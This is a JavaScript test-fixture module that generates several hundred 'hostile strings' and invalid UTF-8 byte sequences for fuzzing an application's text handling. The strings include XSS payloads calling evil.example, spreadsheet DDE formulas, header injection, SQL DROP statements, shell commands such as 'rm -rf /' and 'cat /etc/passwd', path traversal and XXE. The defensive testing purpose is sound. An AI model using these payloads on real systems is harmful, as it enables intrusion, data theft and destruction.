// Text that has broken programs: for every way in which people and programs can hand us text.
// The same strings, in the same order, on every run.

const families = [];

/** Adds a family: strings that attack the same thing. */
function family(name, strings) {
  families.push({ name, strings });
}

/** Every combination of `heads` and `tails`, joined by `join`. */
const each = (heads, tails, join) => heads.flatMap((head) => tails.map((tail) => join(head, tail)));

const SCRIPTS = ["alert(1)", "fetch('//evil.example')", "document.cookie", "top.location='//evil.example'"];

family("script in a page", [
  ...each(["<script>", "<SCRIPT >", "</title><script>", "</textarea><script>", "-->\"><script>", "]]><script>", "<scr<script>ipt>"],
    SCRIPTS, (open, script) => `${open}${script}</script>`),
  ...each(["<img src=x onerror=", "<svg onload=", "<body onpageshow=", "<input autofocus onfocus=", "<details open ontoggle=",
    "<video><source onerror=", "\" onmouseover=\"", "' onfocus='", "\"><svg/onload="], SCRIPTS, (open, script) => `${open}${script}`),
  ...each(["<a href=\"javascript:", "<iframe src=javascript:", "<form action=javascript:", "<object data=javascript:", "<math href=javascript:"],
    SCRIPTS, (open, script) => `${open}${script}">x`),
  "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example/a.css>",
  "<style>*{display:none}</style>", "<plaintext>", "<!--", "-->", "<![CDATA[", "<?php echo 1 ?>", "<% 1 %>", "&lt;script&gt;", "&#60;script&#62;",
  "&", "&&&", "&amp;amp;", "<", ">", "<>", "\"", "'", "`", "\\", "/", "\\\"", "\\u003cscript\\u003e", "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
]);

family("template", [
  ...["{{7*7}}", "{{{7*7}}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "{{#each x}}", "{{/if}}", "{{>layout}}",
    "{{=<% %>=}}", "{{!x}}", "{{&name}}", "{name}", "{prefecture}", "{max}", "{0}", "%s%s%s%n", "%d", "%x%p", "%(name)s", "$name", "$(id)", "`id`", "@name"],
]);

family("formula of a spreadsheet", each(["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", " =", "'=", "\"="],
  ["cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.example\",\"x\")", "1+1", "SUM(A1:A9)", "IMPORTXML(\"//evil.example\",\"//a\")", "DDE(\"cmd\";\"/C calc\")"],
  (mark, formula) => `${mark}${formula}`));

family("end of line and header", [
  ...each(["\r\n", "\n", "\r", "\u2028", "\u2029", "\u0085", "\v", "\f", "%0d%0a", "\\r\\n", "=0D=0A", "\u560D\u560A"],
    ["Bcc: victim@evil.example", "Set-Cookie: a=b", "Location: //evil.example", "Content-Type: text/html", "\r\n<html>", "."], (end, line) => `店${end}${line}`),
  "a,b", "a;b", "a\tb", "\"a\",\"b\"", "a\"\"b", "\"", ",,,,", ";;;;", "=?UTF-8?B?PHNjcmlwdD4=?=", "=?ISO-2022-JP?B?GyRC?=",
  "To: <victim@evil.example>", "店 <victim@evil.example>",
]);

family("statement to a database or a shell", [
  "' OR '1'='1", "'; DROP TABLE registry.venues; --", "1; SELECT pg_sleep(10)", "\\'; --", "') UNION SELECT NULL,NULL--", "$$; DROP SCHEMA registry CASCADE; $$",
  "E'\\x00'", "\\x", "\\.", "\\N", "NULL", "null", "undefined", "nil", "None", "NaN", "Infinity", "-Infinity", "true", "false", "0", "-0", "00", "1e309",
  "9223372036854775808", "0x10", "1_000", "; rm -rf /", "| cat /etc/passwd", "&& reboot", "$(reboot)", "`reboot`", "> /dev/null", "../../../etc/passwd",
  "..\\..\\windows\\win.ini", "%2e%2e%2f", "file:///etc/passwd", "C:\\", "\\\\evil.example\\share", "con", "aux.txt", ".", "..", "/", "~", "*", "?", "[", "(", ")*",
  "(?=a)+", "^(a+)+$", "*)(uid=*))(|(uid=*", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>", "{\"$ne\":null}", "[object Object]", "__proto__",
  "constructor", "toString", "hasOwnProperty", "EVAL \"return 1\" 0", "\r\nFLUSHALL\r\n", "{venue}:1",
]);

const range = (from, to) => Array.from({ length: to - from + 1 }, (_, i) => String.fromCodePoint(from + i));
family("control character", [...range(0x00, 0x1f), ...range(0x7f, 0x9f)].map((c) => `み${c}なと`));

family("turn of direction", ["\u202A", "\u202B", "\u202C", "\u202D", "\u202E", "\u2066", "\u2067", "\u2068", "\u2069", "\u200E", "\u200F", "\u061C"]
  .flatMap((mark) => [`店${mark}abc`, `${mark}gpj.exe`, `${mark.repeat(50)}店`]));
family("right to left", ["مطعم الميناء", "מסעדת הנמל", "ميناء みなと port", "שלום‎店", "ﷺ", "ﷺ".repeat(30)]);

family("what nobody sees", ["\u00AD", "\u034F", "\u115F", "\u1160", "\u17B4", "\u180E", "\u200B", "\u200C", "\u200D", "\u2060", "\u2061", "\u2062", "\u206A",
  "\u3164", "\uFEFF", "\uFFA0", "\uFFF9", "\uFFFB", "\uFFFC", "\u{E0001}", "\u{E0041}", "\u{1D173}", "\uFE00", "\uFE0F", "\u{E0100}"]
  .flatMap((mark) => [mark, `み${mark}なと`, `${mark}店`, `店${mark}`]));
family("white space", [" ", "  ", "\u3000", "\u00A0", "\u1680", "\u2003", "\u2009", "\u202F", "\u205F"]
  .flatMap((space) => [space, `${space}店`, `店${space}`, `み${space}なと`, `み${space}${space}なと`]));

family("letters that look or fold alike", ["髙﨑", "𠮷野家", "葛󠄀城", "葛󠄁城", "辻󠄀", "神社", "神社", "ﾐﾅﾄ", "ﾐﾅﾄﾞ", "が", "か\u3099", "ガ", "カ\u3099", "Å", "Å", "A\u030A", "ﬁ", "ſ", "ẞ", "İ", "ı", "K", "Ω",
  "㍿みなと", "㈱みなと", "①②③", "㌔", "ﷲ", "Ⅷ", "ⅷ", "ｍｉｎａｔｏ", "раураl", "аdmin", "ＡＢＣ", "〜～", "－−‐‑–—―ー", "¥\\", "‾~", "\u212B", "\u1E9B\u0323", "한국", "\u1112\u1161\u11AB", "ไทย", "ก็็็็็็็็็็",
  "क्षि", "ಠ_ಠ", "၃", "ꙮ", "𝕸𝖎𝖓𝖆𝖙𝖔", "\u{2F800}", "\u{20000}", "\u{2A6D6}", "\u{30000}", "〇", "々", "ゝゞ", "ヱヰヴ", "\u{1B001}"]);

family("emoji", ["👨‍👩‍👧‍👦", "👩🏽‍🚒", "🏳️‍🌈", "🏴‍☠️", "🇯🇵", "🇯", "🇯🇵🇯", "👍🏿", "❤️", "❤︎", "1️⃣", "#️⃣", "🧑🏻‍🤝‍🧑🏿", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "😀😀😀", "🍜みなと🍜", "👨‍", "‍👨", "🏿", "\u20E3", "🫠", "\u{1FAF8}\u{1F3FF}", "👨‍👩‍👧‍👦".repeat(100), "👨‍👩‍👧‍👦".repeat(101)]);

family("marks that pile up", ["Z̸̡̢͖̤͔̪̦͇͈͋̐̂͐͘a̷̛̖l̴g̵o̶", ...[1, 10, 30, 100, 1000].flatMap((count) => [`e${"\u0301".repeat(count)}`, `店${"\u0489".repeat(count)}`]),
  ...[50, 100].map((count) => `a${"\u0300\u0316".repeat(7)}`.repeat(count)), "\u0301", "\u0301\u0301店"]);

family("length", [...[98, 99, 100, 101, 102, 199, 200, 201, 255, 256, 257, 1000, 1024, 3200, 3201, 4096, 10_000].flatMap((count) =>
  ["a", "店", "𠮷"].map((c) => c.repeat(count))), "か\u3099".repeat(100), "か\u3099".repeat(101), "\n".repeat(100), " ".repeat(10_000), "<b>".repeat(3000), "&".repeat(10_000)]);

family("half a character", ["\uD800", "\uDFFF", "み\uD83Dなと", "\uDC00\uD800", "\uD83D", "a\uD800", "\uDBFF店", "\uD83D\uD83D\uDE00"]);
family("no character", ["\uFFFE", "\uFFFF", "\uFDD0", "\uFDEF", "\u{1FFFE}", "\u{1FFFF}", "\u{10FFFF}", "\u{10FFFE}", "\uE000", "\uF8FF", "\u{F0000}", "\u{100000}", "\uFFFD", "\u0378", "\u{E0FFF}"]
  .flatMap((c) => [c, `み${c}なと`]));

family("address of something", ["http://evil.example", "https://line.me/R/oaMessage/%40evil/?x", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "mailto:victim@evil.example?bcc=x",
  "//evil.example", "www.evil.example", "tel:110", "line://nv/chat", "xn--n8jaaaaai5bhf7as8fsfk3jnknefdde3fg11amb5gzdb4wi9bya3kc6lra.example", "evil。example", "@oshirase", "0000-0000-0000-0000-0", "7K3M-9QW2-TXB4-N8V6-H", "来店 7K3M9QW2TXB4N8V6H"]);

family("empty", ["", "\u0000", "\u0000\u0000", "み\u0000なと", "\u0000店", "店\u0000"]);

/** All of them, each once: at least 500. A string's family is told by familyOf(). */
export const HOSTILE_STRINGS = [...new Set(families.flatMap(({ strings }) => strings))];

/** Which attack a string belongs to, for the message of a failing test. */
export function familyOf(string) {
  return families.find(({ strings }) => strings.includes(string))?.name;
}

/** Bytes that are no UTF-8, for what takes bytes: overlong forms, surrogates, and what is too large. */
export const HOSTILE_BYTES = [
  [0xc0, 0x80], [0xc0, 0xaf], [0xc1, 0xbf], [0xe0, 0x80, 0x80], [0xe0, 0x80, 0xbc], [0xf0, 0x80, 0x80, 0xbc], [0xf8, 0x80, 0x80, 0x80, 0xbc], [0xfc, 0x80, 0x80, 0x80, 0x80, 0xbc],
  [0xed, 0xa0, 0x80], [0xed, 0xbf, 0xbf], [0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80], [0xf4, 0x90, 0x80, 0x80], [0xf5, 0x80, 0x80, 0x80], [0xfe], [0xff], [0x80], [0xbf, 0xbf],
  [0xe3, 0x81], [0xf0, 0x9f, 0x98], [0xc3, 0x28], [0x83, 0x65, 0x83, 0x58], [0x8e, 0xa1], [0x1b, 0x24, 0x42, 0x25, 0x46], [0xff, 0xfe, 0x5e, 0x97],
].map((bytes) => Buffer.from(bytes));
